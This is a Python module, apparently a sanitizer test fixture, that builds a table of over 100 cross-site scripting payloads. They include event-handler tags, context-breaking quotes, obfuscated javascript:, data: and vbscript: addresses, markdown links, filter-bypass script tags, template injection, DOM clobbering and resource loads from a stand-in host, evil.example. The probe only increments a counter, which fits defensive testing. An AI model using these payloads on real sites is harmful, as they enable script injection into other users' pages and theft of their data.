"""Texts that run a program where a page takes them for HTML, an address, or a script: a table of over 100."""

RUN = "top.ran=(top.ran||0)+1"

_EVENTS = [
    ("img src=x", "error"), ("svg", "load"), ("body", "load"), ("video src=x", "error"), ("audio src=x", "error"), ("input autofocus", "focus"),
    ("select autofocus", "focus"), ("textarea autofocus", "focus"), ("details open", "toggle"), ("marquee", "start"), ("iframe src=about:blank", "load"),
    ("object data=x", "error"), ("embed src=x", "load"), ("link rel=stylesheet href=x", "error"), ("style", "load"), ("script src=x", "error"),
    ("div tabindex=1 autofocus", "focus"), ("a href=# tabindex=1 autofocus", "focus"), ("button autofocus", "focus"), ("picture><img src=x", "error"),
    ("video><source", "error"), ("svg><animate attributeName=x dur=1s", "begin"), ("math><mtext><img src=x", "error"), ("form><input autofocus", "focus"),
    ("table><td><img src=x", "error"), ("p contenteditable autofocus", "focus"), ("dialog open><img src=x", "error"), ("svg><image href=x", "error"),
    ("input type=image src=x", "error"), ("meter tabindex=1 autofocus", "focus"),
]
_QUOTES = ["", "'", '"', "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</pre>", "</code>", "*/", "\\", "`", "${", "\u2028", "\x0c", "&quot;", "&#39;", "</td>"]
_ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=", "vbscript:{}", "//evil.example/x.js",
    "https://evil.example/x.png", "view-source:javascript:{}", "feed:javascript:{}", "blob:https://evil.example/x", "filesystem:https://evil.example/x",
    "file:///etc/passwd", "javascript://%0a{}", "javascript:/*--></title></style></textarea></script>*/{}",
]
_MARKDOWN = [
    "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x]({} "t")', "[![x]({})]({})", "<a href=\"{}\">x</a>", "<iframe src=\"{}\"></iframe>",
]
_WHOLE = [
    "<script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<SCRIPT>{}</SCRIPT>", "<script\x0c>{}</script>", "<script>/*\n*/{}</script>",
    "<svg><script>{}</script></svg>", "<svg><foreignObject><script>{}</script></foreignObject></svg>", "<math href=\"javascript:{}\">x</math>",
    "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>{}</script>\"></object>", "<form action=\"javascript:{}\"><button autofocus>x</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<svg><style><img src=x onerror={}></style></svg>", "<template><img src=x onerror={}></template>",
    "<x onfocus={} tabindex=1 autofocus>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>",
    "\x1b]8;;javascript:{}\x1b\\x\x1b]8;;\x1b\\", "<style>@import 'https://evil.example/x.css';</style>", "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<img src=https://evil.example/x.png>", "<link rel=prefetch href=https://evil.example/x>", "<a href=x ping=https://evil.example/p>x</a>", "<portal src=https://evil.example/>",
    "<p id=app>x</p><form id=app><input name=childNodes></form>", "<img name=getElementById src=x onerror={}>",
]


def payloads():
    """Returns the table."""
    table = [f"<{tag} on{event}={RUN}>" for tag, event in _EVENTS]
    table += [f"{quote}<img src=x onerror={RUN}>" for quote in _QUOTES]
    table += [f"{quote}><img src=x onerror={RUN}>" for quote in _QUOTES[1:6]]
    addresses = [it.format(RUN) for it in _ADDRESSES]
    table += [_MARKDOWN[at % len(_MARKDOWN)].replace("{}", address) for at, address in enumerate(addresses)]
    table += addresses[:8]
    table += [it.replace("{{", "{").replace("}}", "}").replace("{}", RUN) for it in _WHOLE]
    return table


def file_name(payload):
    """Returns the payload as a name of a file: without slashes and control characters, not too long."""
    name = "".join(it for it in payload.replace("/", "\u2215") if it.isprintable()).strip(" .")
    return name[:80] or "x"
